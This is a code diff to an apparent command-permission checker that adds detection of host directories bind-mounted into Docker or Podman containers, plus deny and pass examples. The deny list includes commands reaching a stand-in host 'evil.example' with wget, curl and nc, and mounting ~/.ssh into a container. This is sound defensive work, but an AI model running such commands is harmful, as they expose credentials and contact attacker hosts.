@@ -164,6 +164,45 @@ function containerRuns(call: Call, rest: readonly Word[], via: string, composeSe
   return runs;
 }
 
+/**
+ * Host directories a container is given (`-v SRC:DST`, `--mount type=bind,src=SRC`): what runs inside may read all of
+ * SRC and, unless mounted read-only, place files beneath it. A named volume is no host path.
+ */
+function bindMounts(rest: readonly Word[], composeService: boolean): NonNullable<Answer['uses']> {
+  const p = parse(rest, { order: 'posix', ...CONTAINER_OPTIONS, ...(composeService ? { flags: 'dTe', valued: 'ewpu' } : {}) });
+  const uses: NonNullable<Answer['uses']> = [];
+  for (const o of p.options) {
+    if (!o.value) continue;
+    const v = value(o.value);
+    let src: string | undefined;
+    let ro = false;
+    if (o.name === 'v' || o.name === 'volume') {
+      if (v === undefined) {
+        uses.push({ word: o.value, role: 'read-tree' });
+        continue;
+      }
+      const parts = v.split(':');
+      if (parts.length < 2) continue;
+      src = parts[0];
+      ro = /(^|,)ro($|,)/.test(parts.slice(2).join(':'));
+    } else if (o.name === 'mount') {
+      if (v === undefined) {
+        uses.push({ word: o.value, role: 'read-tree' });
+        continue;
+      }
+      const fields = new Map(v.split(',').map((f) => [f.split('=')[0]!.toLowerCase(), f.slice(f.indexOf('=') + 1)] as const));
+      if ((fields.get('type') ?? 'volume') !== 'bind') continue;
+      src = fields.get('source') ?? fields.get('src');
+      ro = fields.has('readonly') || fields.has('ro');
+    }
+    if (src === undefined || !/^[/~.$]/.test(src)) continue;
+    const word = attached(o.value, src);
+    uses.push({ word, role: 'read-tree' });
+    if (!ro) uses.push({ word, role: 'extract' });
+  }
+  return uses;
+}
+
 function containerTool(names: readonly string[]): ProgramEntry {
   return {
     names,
@@ -189,11 +228,11 @@ function containerTool(names: readonly string[]): ProgramEntry {
         at = at + 1 + next;
         sub = value(args[at])!;
       }
-      return { runs: containerRuns(call, args.slice(at + 1), `${call.name} ${sub}`, compose) };
+      return { runs: containerRuns(call, args.slice(at + 1), `${call.name} ${sub}`, compose), uses: bindMounts(args.slice(at + 1), compose) };
     },
     examples: {
-      deny: ['docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example'],
-      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app'],
+      deny: ['docker run -v /home/dev:/h alpine tar c /h', 'docker run -v ~/.ssh:/k:ro alpine ls /k', 'docker run --mount type=bind,src=/home/dev,dst=/h alpine true', 'docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example'],
+      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app', 'docker run --rm -v "$(pwd)":/app -w /app node:20 npm test', 'docker run -v data:/var/lib/postgresql/data postgres:16'],
     },
   };
 }
